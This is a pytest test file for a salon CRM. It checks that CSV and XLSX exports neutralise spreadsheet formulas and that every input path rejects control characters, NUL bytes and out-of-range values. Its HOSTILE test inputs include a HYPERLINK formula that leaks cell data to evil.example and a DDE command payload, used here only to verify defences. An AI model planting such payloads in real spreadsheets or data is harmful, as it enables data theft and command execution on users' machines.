"""Text hygiene (issue 8, items 3 and 5): exports never carry a live formula or a control
character, and every way text comes in (API, forms, import) refuses control characters, NUL
bytes, a future birthday, too many tags and over-long text with a field error, never a 500."""

import csv
import io
from datetime import date, timedelta

import openpyxl
import pytest
import tablib
from django import forms
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils import timezone
from rest_framework import serializers

from appointments.forms import BookingForm
from customers.forms import CustomerForm
from customers.models import Customer, Tag
from customers.resources import (
    HEADER,
    customers_export_csv_lines,
    customers_export_dataset,
    customers_export_xlsx,
    dataset_from_bytes,
)
from customers.services import customer_import
from salon_crm.validators import spreadsheet_cell, spreadsheet_unescape
from tests.customers.factories import CustomerFactory, TagFactory

pytestmark = pytest.mark.django_db

HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1,2)": "'@SUM(1,2)",
    "\t=1+1": "'\t=1+1",
    "\n=1+1": "'\n=1+1",
    "＝1＋1": "'＝1＋1",
    "'=already quoted": "''=already quoted",
    "张三": "张三",
    "O'Brien": "O'Brien",
}


TEXT_TYPES = {"s", "inlineStr"}  # openpyxl's cell types for text (shared, inline)


def _csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def _xlsx_sheet(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content)).active


# ---- the cell rule ----------------------------------------------------------------------------


@pytest.mark.parametrize(("value", "cell"), list(HOSTILE.items()))
def test_spreadsheet_cell_quotes_formulas_and_unescape_is_its_inverse(value, cell):
    assert spreadsheet_cell(value) == cell
    assert spreadsheet_unescape(cell) == value


def test_spreadsheet_cell_drops_control_characters_but_keeps_layout():
    assert spreadsheet_cell("A\x00B\x01C\x1fD\x7fE\x85F\ufffeG") == "ABCDEFG"
    assert spreadsheet_cell("line 1\nline 2\tend") == "line 1\nline 2\tend"
    assert spreadsheet_cell(None) == ""


def test_spreadsheet_cell_line_breaks_are_line_feeds():
    assert spreadsheet_cell("a\r\nb\rc") == "a\nb\nc"
    assert spreadsheet_cell("\r=1+1") == "'\n=1+1"


# ---- exports ----------------------------------------------------------------------------------


def test_csv_and_xlsx_exports_neutralise_every_formula(client_as, owner):
    for i, name in enumerate(HOSTILE):
        CustomerFactory(name=name, notes=name, external_id=f"H-{i}", phone=None)
    client = client_as(owner)

    response = client.get(reverse("customers:export"), {"format": "csv"})
    rows = _csv_rows(b"".join(response.streaming_content).decode("utf-8"))
    assert {r["name"] for r in rows} == set(HOSTILE.values())
    assert {r["notes"] for r in rows} == set(HOSTILE.values())

    response = client.get(reverse("customers:export"), {"format": "xlsx"})
    sheet = _xlsx_sheet(response.content)
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert {c.data_type for c in cells} <= TEXT_TYPES  # text, never a formula ("f")
    names = [row[1].value for row in sheet.iter_rows(min_row=2)]
    assert sorted(names) == sorted(HOSTILE.values())


def test_dataset_export_is_neutralised_too():
    CustomerFactory(name="=1+1", phone=None)
    data = customers_export_dataset()
    assert dict(zip(HEADER, data[0], strict=True))["name"] == "'=1+1"
    sheet = _xlsx_sheet(data.export("xlsx"))
    assert sheet["B2"].value == "'=1+1"
    assert sheet["B2"].data_type in TEXT_TYPES


def test_phones_export_usefully_and_never_as_formulas():
    CustomerFactory(name="张三", phone="+8613800138000", external_id="P-1")
    CustomerFactory(name="Emily", phone="+447911123456", external_id="P-2")
    rows = {r["external_id"]: r for r in _csv_rows("".join(customers_export_csv_lines()))}
    # Home-region numbers as the card shows them (text in any spreadsheet); others quoted.
    assert rows["P-1"]["phone"] == "138 0013 8000"
    assert rows["P-2"]["phone"] == "'+44 7911 123456"
    sheet = _xlsx_sheet(customers_export_xlsx())
    assert [c.value for c in sheet["C"]] == ["phone", "138 0013 8000", "'+44 7911 123456"]


def test_export_round_trips_through_import_unchanged():
    for i, value in enumerate(HOSTILE):
        name = value.strip()  # a name is one line (tabs and line breaks are refused at input)
        CustomerFactory(name=name, notes=f"{value}\nsecond line", external_id=f"H-{i}", phone=None)
    CustomerFactory(name="张三", phone="+8613800138000", external_id="P-1", tags=[TagFactory(name="=VIP")])
    CustomerFactory(name="Emily", phone="+447911123456", external_id="P-2")
    before = sorted(Customer.objects.values_list("pk", "name", "notes", "phone", "external_id"))

    for content in (
        "".join(customers_export_csv_lines()).encode("utf-8"),
        customers_export_xlsx(),
    ):
        filename = "clients.xlsx" if content[:2] == b"PK" else "clients.csv"
        report = customer_import(dataset=dataset_from_bytes(content, filename), dry_run=False)
        assert (report.problems, report.new, report.updated) == ([], 0, len(before))
        after = sorted(Customer.objects.values_list("pk", "name", "notes", "phone", "external_id"))
        assert after == before
    assert list(Tag.objects.values_list("name", flat=True)) == ["=VIP"]


def test_control_characters_on_file_do_not_break_the_export(client_as, owner):
    # rows saved before input was checked (the factory writes without validation)
    CustomerFactory(name="Bad\x01Name", notes="a\x02b\nc\x1b", phone=None)
    client = client_as(owner)
    response = client.get(reverse("customers:export"), {"format": "xlsx"})
    assert response.status_code == 200
    sheet = _xlsx_sheet(response.content)
    assert (sheet["B2"].value, sheet["J2"].value) == ("BadName", "ab\nc")
    response = client.get(reverse("customers:export"), {"format": "csv"})
    rows = _csv_rows(b"".join(response.streaming_content).decode("utf-8"))
    assert (rows[0]["name"], rows[0]["notes"]) == ("BadName", "ab\nc")


# ---- input: the project-wide default ----------------------------------------------------------


def test_every_form_and_serializer_charfield_refuses_control_characters():
    with pytest.raises(ValidationError, match="U\\+0001"):
        forms.CharField().clean("a\x01b")
    assert forms.CharField(widget=forms.Textarea).clean("a\nb\tc") == "a\nb\tc"
    with pytest.raises(serializers.ValidationError) as exc:
        serializers.CharField().run_validation("a\x1bb")
    assert "U+001B" in str(exc.value.detail[0])
    assert serializers.CharField().run_validation("a\nb") == "a\nb"
    # NUL is said once, by Django's own validator
    with pytest.raises(ValidationError) as nul:
        forms.CharField().clean("a\x00b")
    assert nul.value.messages == ["Null characters are not allowed."]


# ---- input: the API ---------------------------------------------------------------------------

BAD_API_INPUT = [
    ({"name": "A\x01B"}, "name"),
    ({"name": "A\nB"}, "name"),
    ({"name": "A\tB"}, "name"),
    ({"name": "a\x00b"}, "name"),
    ({"name": "x" * 101}, "name"),
    ({"name": "ok", "notes": "bell\x07"}, "notes"),
    ({"name": "ok", "notes": "\x00"}, "notes"),
    ({"name": "ok", "notes": "n" * 5001}, "notes"),
    ({"name": "ok", "allergies": "PPD\x00"}, "allergies"),
    ({"name": "ok", "skin_notes": "dry\nflaky"}, "skin_notes"),
    ({"name": "ok", "email": "a\x00@example.com"}, "email"),
    ({"name": "ok", "phone": "138\x00"}, "phone"),
    ({"name": "ok", "birthday": "9999-12-31"}, "birthday"),
    ({"name": "ok", "birthday": "0001-01-01"}, "birthday"),
    ({"name": "ok", "tags": [f"t{i}" for i in range(21)]}, "tags"),
    ({"name": "ok", "tags": ["x" * 41]}, "tags"),
    ({"name": "ok", "tags": ["V\x01IP"]}, "tags"),
    ({"name": "ok", "tags": ["a\x00"]}, "tags"),
]


@pytest.mark.parametrize(("payload", "field"), BAD_API_INPUT)
def test_api_create_refuses_bad_text_with_a_field_error(api_as, manager, payload, field):
    response = api_as(manager).post(reverse("api-customers"), payload, format="json")
    assert response.status_code == 400, response.content
    assert field in response.json(), response.json()
    assert Customer.objects.count() == 0
    assert Tag.objects.count() == 0


def test_api_takes_multi_line_notes_and_twenty_tags(api_as, manager):
    payload = {
        "name": "张三",
        "notes": "first line\nsecond\tline\r\n",
        "preferences": "quiet",
        "birthday": timezone.localdate().isoformat(),
        "tags": [f"t{i}" for i in range(20)],
    }
    response = api_as(manager).post(reverse("api-customers"), payload, format="json")
    assert response.status_code == 201, response.json()
    customer = Customer.objects.get()
    assert customer.notes == "first line\nsecond\tline"  # trimmed at the ends, kept inside
    assert customer.tags.count() == 20


@pytest.mark.parametrize(("payload", "field"), BAD_API_INPUT)
def test_api_update_refuses_bad_text_and_changes_nothing(api_as, manager, payload, field):
    customer = CustomerFactory(name="张三", notes="kept", tags=[TagFactory(name="VIP")])
    response = api_as(manager).patch(reverse("api-customer", args=[customer.pk]), payload, format="json")
    assert response.status_code == 400, response.content
    assert field in response.json()
    customer.refresh_from_db()
    assert (customer.name, customer.notes, customer.birthday) == ("张三", "kept", None)
    assert list(customer.tags.values_list("name", flat=True)) == ["VIP"]
    assert list(Tag.objects.values_list("name", flat=True)) == ["VIP"]


def test_api_formula_and_consent_text_is_checked(api_as, manager):
    customer = CustomerFactory()
    client = api_as(manager)
    formula = {"brand": "Wel\x01la", "shades": [{"shade": "7/1", "grams": "30"}], "stylist": manager.pk}
    response = client.post(reverse("api-customer-formulas", args=[customer.pk]), formula, format="json")
    assert (response.status_code, list(response.json())) == (400, ["brand"])
    formula = {"brand": "Wella", "shades": [{"shade": "7\n1", "grams": "30"}], "stylist": manager.pk}
    response = client.post(reverse("api-customer-formulas", args=[customer.pk]), formula, format="json")
    assert (response.status_code, list(response.json())) == (400, ["shades"])
    consent = {"channel": "sms", "granted": True, "method": "desk\x00"}
    response = client.post(reverse("api-customer-consent", args=[customer.pk]), consent, format="json")
    assert (response.status_code, list(response.json())) == (400, ["method"])
    assert (customer.formulas.count(), customer.consent_records.count()) == (0, 0)


# ---- input: the pages -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "field"),
    [
        ({"name": "A\x01B"}, "name"),
        ({"name": "A\nB"}, "name"),
        ({"name": "ok", "notes": "bell\x07"}, "notes"),
        ({"name": "ok", "notes": "n" * 5001}, "notes"),
        ({"name": "ok", "birthday": (date.today() + timedelta(days=2)).isoformat()}, "birthday"),
        ({"name": "ok", "birthday": "1850-01-01"}, "birthday"),
    ],
)
def test_client_form_refuses_bad_text_with_a_field_error(client_as, manager, data, field):
    response = client_as(manager).post(reverse("customers:create"), data)
    assert response.status_code == 200
    assert response.context["form"].errors[field]
    assert Customer.objects.count() == 0


def test_nul_in_a_form_is_a_400_naming_the_field(client_as, manager):
    # salon_crm.middleware answers before the view; the form would refuse it as well
    response = client_as(manager).post(reverse("customers:create"), {"name": "a\x00b"})
    assert (response.status_code, response.content.decode()) == (
        400,
        "name: Null characters are not allowed.",
    )
    assert Customer.objects.count() == 0
    assert CustomerForm({"name": "a\x00b"}).errors["name"] == ["Null characters are not allowed."]
    assert CustomerForm({"name": "ok", "notes": "\x00"}).errors["notes"] == [
        "Null characters are not allowed."
    ]


def test_client_form_refuses_more_than_twenty_tags(client_as, manager):
    tags = [TagFactory(name=f"t{i:02d}") for i in range(21)]
    response = client_as(manager).post(
        reverse("customers:create"), {"name": "ok", "tags": [t.pk for t in tags]}
    )
    assert response.status_code == 200
    assert response.context["form"].errors["tags"] == ["Give at most 20 tags."]
    assert Customer.objects.count() == 0


def test_client_form_keeps_multi_line_notes(client_as, manager):
    response = client_as(manager).post(reverse("customers:create"), {"name": "张三", "notes": "a\r\nb\tc"})
    assert response.status_code == 302
    assert Customer.objects.get().notes == "a\r\nb\tc"


def test_booking_form_new_client_name_is_one_line(location):
    form = BookingForm({"new_name": "张\x01三", "date": "2027-01-06"})
    assert form.errors["new_name"] == ["Remove the control character U+0001 from this text."]
    form = BookingForm({"new_name": "张\n三", "date": "2027-01-06"})
    assert form.errors["new_name"] == ["Line breaks and tabs are not allowed here; keep it on one line."]
    form = BookingForm({"new_name": "张三", "date": "2027-01-06", "notes": "line\nline"})
    assert "new_name" not in form.errors and "notes" not in form.errors


# ---- input: the import ------------------------------------------------------------------------

HEAD = ",".join(HEADER) + "\n"


def _problems(text: str) -> list[tuple[int, str]]:
    report = customer_import(dataset=tablib.Dataset().load(HEAD + text, format="csv"), dry_run=False)
    assert not report.saved
    return sorted({(p.line, p.field) for p in report.problems})


def test_import_refuses_bad_text_by_row_and_column():
    future = (timezone.localdate() + timedelta(days=1)).isoformat()
    many_tags = ";".join(f"t{i}" for i in range(21))
    rows = (
        'A-1,"A\x01B",,,,,,,,,,\n'
        'A-2,"two\nlines",,,,,,,,,,\n'
        "A-3,ok,,,,,,,,bell\x07,,\n"
        "A-4,ok,,,,,,,PPD\x00,,,\n"
        f"A-5,ok,,,,{future},,,,,,\n"
        f"A-6,ok,,,,,,,,,{many_tags},\n"
        "A-7,ok,,,,,,,,,V\x01IP,\n"
        "A\x008,ok,,,,,,,,,,\n"
        "A-9,ok,,,,1899-12-31,,,,,,\n"
    )
    assert _problems(rows) == [
        (2, "name"),
        (3, "name"),
        (4, "notes"),
        (5, "allergies"),
        (6, "birthday"),
        (7, "tags"),
        (8, "tags"),
        (9, "external_id"),
        (10, "birthday"),
    ]
    assert (Customer.objects.count(), Tag.objects.count()) == (0, 0)


def test_import_over_long_cell_names_row_and_column(client_as, manager):
    huge = "备注" * 100_000  # 200,000 characters: past the csv module's own 128 KiB limit
    text = HEAD + "A-1,张三,,,,,,,,ok,,\n" + f"A-2,李四,,,,,,,,{huge},,\n" + f"A-3,{'王' * 101},,,,,,,,,,\n"
    upload = io.BytesIO(text.encode("utf-8"))
    upload.name = "clients.csv"
    response = client_as(manager).post(reverse("customers:import"), {"file": upload})
    assert response.status_code == 200
    assert not response.context["form"].errors
    problems = [(p.line, p.field, p.message) for p in response.context["problems"]]
    assert problems == [
        (3, "notes", "Ensure this value has at most 5000 characters (it has 200000)."),
        (4, "name", "Ensure this value has at most 100 characters (it has 101)."),
    ]
    assert Customer.objects.count() == 0
